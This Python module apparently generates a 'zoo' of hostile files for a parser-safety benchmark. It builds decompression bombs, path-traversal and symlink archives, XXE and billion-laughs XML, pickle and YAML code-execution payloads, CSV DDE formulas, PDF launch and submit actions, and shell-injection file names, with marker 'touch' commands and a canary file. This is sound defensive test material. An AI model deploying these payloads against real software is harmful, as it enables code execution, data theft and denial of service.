"""Files made to harm whoever reads them, written on the spot: bombs, loops, traps, torn and misnamed documents.

Each kind of attack has a function that yields (name, content). Traps that want to read a file name the canary, traps
that want to write one name `escaped-...` beside it, traps that want a network name a server of ours: what happens to
these three is what the benchmark looks at. Nothing here harms a machine that only stores it.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import zstandard

from ingot.data.parser_choice import endings
from tests.data.samples import docx_bytes, epub_bytes, odp_bytes, packed, pptx_bytes, tabled_pdf_bytes, xlsx_bytes

MIB = 1 << 20
File = tuple[str, bytes]


@dataclass(frozen=True)
class Bait:
    """What traps are set on: a file with a secret, a place to write to, a server to call."""

    canary: Path
    escape: Path
    url: str


def deflated(size: int, window_bits: int, unit: bytes = b"\0") -> bytes:
    """Return `size` bytes of one unit again and again, deflated; made piece by piece."""
    packer = zlib.compressobj(9, zlib.DEFLATED, window_bits)
    block = unit * (MIB // len(unit))
    return b"".join(packer.compress(block) for _ in range(size // MIB)) + packer.flush()


def archives(bait: Bait) -> Iterator[File]:
    """Archives that explode, nest, climb out, link out, or lie about what they hold."""
    zeros = deflated(1024 * MIB, -15)
    yield "flat-bomb.zip", raw_zip([("zeros.txt", zeros, 1024 * MIB)])
    yield "lying-bomb.zip", raw_zip([("zeros.txt", zeros, 1000)])
    some = deflated(64 * MIB, -15)
    yield "overlapping-bomb.zip", raw_zip([(f"{n}.txt", some, 64 * MIB) for n in range(500)], shared=True)
    inner = packed({"zeros.txt": bytes(64 * MIB)})
    for level in range(6):
        inner = packed({f"{level}-{n}.zip": inner for n in range(10)})
    yield "nested-bomb.zip", inner
    yield "many-files.zip", packed({f"{n}.txt": b"" for n in range(60_000)})
    yield "many-texts.zip", packed({f"{n}.txt": b"text" for n in range(25_000)})
    yield "bomb.gz", deflated(2048 * MIB, 31)
    yield "bomb.txt.bz2", bz2.compress(bytes(128 * MIB)) * 16
    yield "bomb.xz", lzma.compress(bytes(256 * MIB)) * 4
    yield "wide-window.xz", bytes.fromhex("fd377a585a000004e6d6b446020021011c0000") + bytes(200)
    yield "bomb.zst", zstandard.compress(bytes(256 * MIB)) * 8
    yield "bomb.tar.gz", gzip.compress(tar_of(("zeros", bytes(300 * MIB), tarfile.REGTYPE, "")))
    yield "long-header.tar.gz", gzip.compress(pax_bomb(600 * MIB), 1)
    yield "slip.tar", tar_of((f"../../../../../../../../{bait.escape}/escaped-tar", b"x", tarfile.REGTYPE, ""))
    yield "absolute.tar", tar_of((f"{bait.escape}/escaped-absolute", b"x", tarfile.REGTYPE, ""))
    for kind, name in ((tarfile.SYMTYPE, "symlink"), (tarfile.LNKTYPE, "hardlink"), (tarfile.CHRTYPE, "device")):
        yield (
            f"{name}.tar",
            tar_of(("notes.txt", b"", kind, str(bait.canary)), ("notes.txt", b"over it", tarfile.REGTYPE, "")),
        )
    yield "slip.zip", packed({f"../../../../../../../..{bait.escape}/escaped-zip": "x", "..\\..\\escaped-windows": "x"})
    yield "link.zip", raw_zip([("notes.txt", zlib.compress(str(bait.canary).encode())[2:-4], 20)], mode=0o120777)
    yield "a-file-of-no-end.zip", packed({"x.txt": b"text"})[:-10] + b"PK\x05\x06" + b"\xff" * 18


def raw_zip(parts: list[tuple[str, bytes, int]], shared: bool = False, mode: int = 0) -> bytes:
    """Return a ZIP archive of raw deflated parts with sizes as told; `shared`: all are the bytes of the first."""
    body, central = b"", b""
    for name, content, size in parts[: 1 if shared else None]:
        body += struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 33, 0, len(content), size, len(name), 0)
        body += name.encode() + content
    place = 0
    for name, content, size in parts:
        fields = (20, 20, 0, 8, 0, 33, 0, len(content), size, len(name), 0, 0, 0, 0, mode << 16, place)
        central += struct.pack("<4s6H3I5H2I", b"PK\1\2", *fields) + name.encode()
        place += 0 if shared else 30 + len(name) + len(content)
    return body + central + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, len(parts), len(parts), len(central), len(body), 0)


def tar_of(*members: tuple[str, bytes, bytes, str]) -> bytes:
    """Return a tar archive of (name, content, type, target of the link)."""
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as archive:
        for name, content, kind, link in members:
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.size = kind, link, len(content)
            archive.addfile(info, io.BytesIO(content))
    return target.getvalue()


def pax_bomb(size: int) -> bytes:
    """Return the beginning of a tar archive whose first header claims to be this long."""
    info = tarfile.TarInfo("x")
    info.type, info.size = tarfile.XHDTYPE, size
    return info.tobuf(tarfile.USTAR_FORMAT) + bytes(size)


def markup(bait: Bait) -> Iterator[File]:
    """XML, HTML, JSON and their kin that expand, nest without end, or ask for other files."""
    laughs = '<!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    outside = f'<!DOCTYPE x [<!ENTITY a11 SYSTEM "file://{bait.canary}">'
    remote = f'<!DOCTYPE x [<!ENTITY % d SYSTEM "{bait.url}/x.dtd"> %d; <!ENTITY a11 SYSTEM "{bait.url}/x">'
    quadratic = f'<!DOCTYPE x [<!ENTITY a11 "{"x" * 100_000}">'
    for kind, head in (("laughs", laughs), ("xxe", outside), ("remote", remote), ("quadratic", quadratic)):
        body = "&a11;" * (20_000 if kind == "quadratic" else 1)
        head = f'<?xml version="1.0"?>{head}]>'
        yield f"{kind}.xml", f"{head}<x>{body}</x>".encode()
        yield f"{kind}.html", f"{head}<html><body><p>{body}</p></body></html>".encode()
        yield f"{kind}.docx", with_part(docx_bytes("PLACE"), "word/document.xml", head, body)
        yield f"{kind}.xlsx", with_part(xlsx_bytes(A=[["PLACE"]]), "xl/worksheets/sheet1.xml", head, body)
        yield f"{kind}.pptx", with_part(pptx_bytes(("a", "PLACE", "")), "ppt/slides/slide1.xml", head, body)
        yield (
            f"{kind}.odp",
            with_part(odp_bytes("<draw:page><text:p>PLACE</text:p></draw:page>"), "content.xml", head, body),
        )
        yield f"{kind}.epub", with_part(epub_bytes("PLACE"), "c1.xhtml", head, body)
    yield (
        "include.xml",
        f'<x xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="file://{bait.canary}"/></x>'.encode(),
    )
    for tag in ("img src", "iframe src", "object data", "embed src", "link rel=stylesheet href", "script src"):
        name = f"pulls-{tag.split()[0]}.html"
        yield (
            name,
            f"<html><body><p>x</p><{tag}='file://{bait.canary}'></{tag}><{tag}='{bait.url}/x'></body></html>".encode(),
        )
    yield "deep.html", b"<div>" * 2_000_000 + b"x"
    yield "deep-table.html", b"<table><tr><td>" * 200_000 + b"x"
    yield "wide.html", b"<p " + b"".join(b"a%d=b " % n for n in range(500_000)) + b">x</p>"
    yield "colspan.html", b"<table><tr><td colspan=2000000000 rowspan=2000000000>x</td></tr></table>"
    yield "deep.xml", b"<a>" * 1_000_000
    yield "deep.json", b"[" * 10_000_000
    yield "deep-object.json", b'{"a":' * 1_000_000
    yield "long-number.json", b'{"text": ' + b"9" * 5_000_000 + b"}"
    yield "deep.jsonl", (b"[" * 100_000 + b"\n") * 20
    yield "alike-keys.json", b"{" + b",".join(b'"%d": 1' % n for n in range(1_000_000)) + b"}"
    anchors = "a0: &a0 [x,x]\n" + "".join(f"a{n}: &a{n} [*a{n - 1},*a{n - 1}]\n" for n in range(1, 60))
    yield (
        "anchors.md",
        f"---\n{anchors}title: !!python/object/apply:os.system ['touch {bait.escape}/escaped-yaml']\n---\nx".encode(),
    )
    yield "brackets.md", b"[" * 5_000_000
    yield "latex.tex", b"\\begin{itemize}" * 100_000 + b"\\emph{" * 100_000
    yield "latex-input.tex", f"\\input{{{bait.canary}}}\\write18{{touch {bait.escape}/escaped-tex}}x".encode()
    yield "deep.rtf", b"{\\rtf1" + b"{" * 2_000_000
    yield "bin.rtf", b"{\\rtf1 \\bin2147483647 x}"
    yield "cells.ipynb", b'{"nbformat":4,"cells":[' + b'{"cell_type":"code","source":"x"},' * 500_000 + b"{}]}"


def with_part(archive: bytes, part: str, head: str, body: str) -> bytes:
    """Return an Office file with a hostile head and body in one of its parts."""
    with zipfile.ZipFile(io.BytesIO(archive)) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    text = parts[part].decode()
    text = text[text.index("?>") + 2 :] if text.startswith("<?xml") else text
    return packed({**parts, part: head + text.replace("PLACE", body)})


def sheets(bait: Bait) -> Iterator[File]:
    """Tables of one endless line, of no end, or of one cell at the far corner."""
    yield "one-line.csv", b"a,b," * (50 * MIB)
    yield "open-quote.csv", b'a,"' + b"line of text\n" * (4 * MIB)
    yield "columns.csv", b"," * 20_000_000
    yield "one-line.txt", b"x" * (200 * MIB)
    yield "one-line.jsonl", b'{"text": "' + b"x" * (200 * MIB) + b'"}'
    corner = xlsx_bytes(A=[["x"]])
    for name, old, new in (("corner", b'r="A1"', b'r="XFD1048576"'), ("far", b'<row r="1">', b'<row r="1048576">')):
        with zipfile.ZipFile(io.BytesIO(corner)) as source:
            parts = {part: source.read(part) for part in source.namelist()}
        sheet = parts["xl/worksheets/sheet1.xml"]
        yield f"{name}.xlsx", packed({**parts, "xl/worksheets/sheet1.xml": sheet.replace(old, new)})
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(b">x<", b">" + b"x" * (400 * MIB) + b"<")
    yield "long-cell.xlsx", packed(parts)
    space = "urn:oasis:names:tc:opendocument:xmlns"
    repeated = 'office:value-type="string" table:number-columns-repeated="16384"'
    cell = f"<table:table-cell {repeated}><text:p>x</text:p></table:table-cell>"
    rows = f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row>'
    names = " ".join(f'xmlns:{name}="{space}:{name}:1.0"' for name in ("office", "table", "text"))
    content = (
        f"<office:document-content {names}><office:body><office:spreadsheet>"
        f'<table:table table:name="A">{rows}</table:table></office:spreadsheet></office:body></office:document-content>'
    )
    manifest = '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    parts = {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": content.encode()}
    yield "repeats.ods", packed({**parts, "META-INF/manifest.xml": manifest})
    yield "formula.csv", f"a,b\n=cmd|'/c touch {bait.escape}/escaped-csv'!A1,=HYPERLINK(\"{bait.url}\")\n".encode()


def pdfs(bait: Bait) -> Iterator[File]:
    """PDF documents that loop, explode or ask for something to be done."""
    bomb = zlib.compress(zlib.compress(bytes(600 * MIB), 9), 9)
    launch = f"<</S/Launch/F({bait.escape}/escaped-pdf)/Win<</F(cmd)>>>>"
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
    tree: dict[int, str | bytes] = {
        1: "<</Type/Catalog/Pages 2 0 R>>",
        2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: page,
        4: b"BT (x) Tj ET",
    }
    variants: dict[str, dict[int, str | bytes]] = {
        "kids-loop": {2: "<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>"},
        "parent-loop": {3: "<</Type/Page/Parent 3 0 R/Contents 4 0 R>>"},
        "reference-loop": {4: "4 0 R"},
        "two-references": {3: "5 0 R", 5: "3 0 R"},
        "count": {2: "<</Type/Pages/Kids[3 0 R]/Count 2147483647>>"},
        "outlines": {
            1: "<</Type/Catalog/Pages 2 0 R/Outlines 5 0 R>>",
            5: "<</First 6 0 R>>",
            6: "<</Next 6 0 R/Title(x)>>",
        },
        "form-loop": {
            3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</A 5 0 R>>>>>>",
            4: b"/A Do /A Do",
            5: "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</A 5 0 R>>>>/Length 11>>"
            "stream\n/A Do /A Do\nendstream",
        },
        "launch": {1: f"<</Type/Catalog/Pages 2 0 R/OpenAction{launch}>>"},
        "script": {1: f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL('{bait.url}'))>>>>"},
        "submit": {1: f"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/SubmitForm/F({bait.url})>>>>"},
        "external": {4: f"<</F(file://{bait.canary})/Length 0>>stream\n\nendstream"},
    }
    for name, change in variants.items():
        yield f"{name}.pdf", raw_pdf({**tree, **change})
    yield "stream-bomb.pdf", raw_pdf({**tree, 4: bomb}, filters="[/FlateDecode/FlateDecode]")
    yield "many-strings.pdf", raw_pdf({**tree, 4: b"BT " + b"(x) Tj " * 2_000_000 + b"ET"})
    yield "deep-array.pdf", raw_pdf({**tree, 4: "[" * 1_000_000})
    yield "xref-loop.pdf", raw_pdf(tree).replace(b"/Root", b"/Prev 9/Root")
    yield "many-pages.pdf", raw_pdf({**tree, 2: f"<</Type/Pages/Kids[{'3 0 R ' * 50_000}]/Count 50000>>"})


def raw_pdf(objects: dict[int, str | bytes], filters: str = "") -> bytes:
    """Return a PDF of numbered objects; bytes become a stream."""
    out = bytearray(b"%PDF-1.7\n")
    places: dict[int, int] = {}
    for number, content in objects.items():
        places[number] = len(out)
        if isinstance(content, bytes):
            head = f"<</Length {len(content)}{'/Filter' + filters if filters else ''}>>stream\n".encode()
            content = head + content + b"\nendstream"
        else:
            content = content.encode()
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start, size = len(out), max(places) + 1
    out += f"xref\n0 {size}\n0000000000 65535 f \n".encode()
    out += b"".join(b"%010d 00000 n \n" % places.get(number, 0) for number in range(1, size))
    return bytes(out + f"trailer<</Size {size}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF\n".encode())


def mails(bait: Bait) -> Iterator[File]:
    """Mails of endless parts, and pictures and sound with headers of the impossible."""
    parts = "".join(f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(20_000))
    yield "deep.eml", f"Subject: S\n{parts}".encode()
    many = "--b\nContent-Type: text/plain; name=a.txt\n\nx\n" * 100_000
    yield "parts.eml", f"Subject: S\nContent-Type: multipart/mixed; boundary=b\n\n{many}".encode()
    yield "parameters.eml", b"Subject: S\nContent-Type: multipart/mixed; " + b';a="b"' * 500_000 + b"\n\nx"
    yield "many-fields.eml", b"X: y\n" * 1_000_000 + b"\nx"
    yield "long-field.eml", b"Subject: " + b"=?utf-8?q?" * 1_000_000 + b"\n\nx"
    head = b"Subject: S\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: application/zip; name="
    name = f'"{bait.escape}/escaped-mail.zip"'.encode()
    yield (
        "attached-bomb.eml",
        head + name + b"\n\n" + raw_zip([("z.txt", deflated(256 * MIB, -15), 256 * MIB)]) + b"\n--b--\n",
    )
    yield (
        "huge.png",
        b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sIIBBBBBI", 13, b"IHDR", 2**31 - 1, 2**31 - 1, 8, 6, 0, 0, 0, 0),
    )
    yield "huge.gif", b"GIF89a" + struct.pack("<HH", 65535, 65535) + bytes(20)
    yield "huge.bmp", b"BM" + bytes(12) + struct.pack("<IiiHH", 40, 2**31 - 1, 2**31 - 1, 1, 32) + bytes(30)
    yield "huge.jpg", b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03" + bytes(20)
    yield "huge.wav", b"RIFF\xff\xff\xff\xffWAVEfmt " + bytes(100)


def pickles(bait: Bait) -> Iterator[File]:
    """Serialised programs, under every name they are known by."""
    program = f"cposix\nsystem\n(S'touch {bait.escape}/escaped-pickle'\ntR.".encode()
    for name in ("a.pkl", "a.pickle", "a.joblib", "a.bin", "a.ckpt", "a.txt", "a", "a.json", "a.npy"):
        yield f"pickle-{name}", program
    yield "weights.pt", packed({"archive/data.pkl": program, "archive/version": "3"})
    yield "weights.zip", packed({"archive/data.pkl": program})
    yield "weights.npy", b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }" + program


def torn(bait: Bait) -> Iterator[File]:
    """Good documents that end too early, and bytes of no meaning under every name."""
    samples = {
        "letter.docx": docx_bytes(*["A paragraph of some length."] * 50),
        "costs.xlsx": xlsx_bytes(A=[["a", "b"]] * 50),
        "talk.pptx": pptx_bytes(*[("A title", "A text", "A note")] * 5),
        "novel.epub": epub_bytes(*["A chapter."] * 5),
        "report.pdf": tabled_pdf_bytes(*[("A sentence.", [["a", "b"], ["1", "2"]])] * 5),
        "all.zip": packed({"a.txt": "text" * 100, "b.txt": "text"}),
        "log.gz": gzip.compress(b"a line\n" * 1000),
    }
    draw = random.Random(5)
    for name, content in samples.items():
        stem, _, ending = name.rpartition(".")
        for percent in (5, 50, 95):
            yield f"torn-{stem}-{percent}.{ending}", content[: len(content) * percent // 100]
        flipped = bytearray(content)
        for _ in range(20):
            flipped[draw.randrange(len(flipped))] ^= 1 << draw.randrange(8)
        yield f"flipped-{name}", bytes(flipped)
    for ending in sorted(endings()):
        yield f"random.{ending}", draw.randbytes(30_000)
        yield f"zeros.{ending}", bytes(5000)


def odd_names(_: Bait) -> Iterator[File]:
    """Good text under names that break what is careless with names."""
    names = [
        "-rf",
        "--help",
        "a\nb.txt",
        "a\x1b[31mred.txt",
        "%s%n%x.txt",
        "$(touch escaped-name).txt",
        "`id`.txt",
        "\u202etxt.exe",
    ]
    names += [
        "'; drop table documents; --.txt",
        "a" * 250 + ".t",
        " .txt",
        "....txt",
        "~",
        "CON.txt",
        "a!_b!_c.txt",
        "\U0001f600.md",
    ]
    for number, name in enumerate(names):
        yield name, f"A good text, number {number}, under an odd name.\n".encode()


KINDS: dict[str, Callable[[Bait], Iterator[File]]] = {
    **{"archives": archives, "markup": markup, "sheets": sheets, "pdfs": pdfs},
    **{"mails": mails, "pickles": pickles, "torn": torn, "names": odd_names},
}


def write_zoo(folder: Path, bait: Bait) -> list[str]:
    """Write every file of the zoo, a folder for each kind, with links and pipes beside; return the names."""
    for kind, make in KINDS.items():
        (folder / kind).mkdir(parents=True)
        for name, content in make(bait):
            (folder / kind / name).write_bytes(content)
    (folder / "names" / "link-out.txt").symlink_to(bait.canary)
    (folder / "names" / "link-loop.txt").symlink_to("link-loop.txt")
    os.mkfifo(folder / "names" / "pipe.txt")
    with open(os.fsencode(folder / "names") + b"/\xff\xfe.txt", "wb") as file:
        file.write(b"A good text under a name of broken bytes.\n")
    return sorted(str(path.relative_to(folder)) for path in folder.rglob("*") if not path.is_dir())
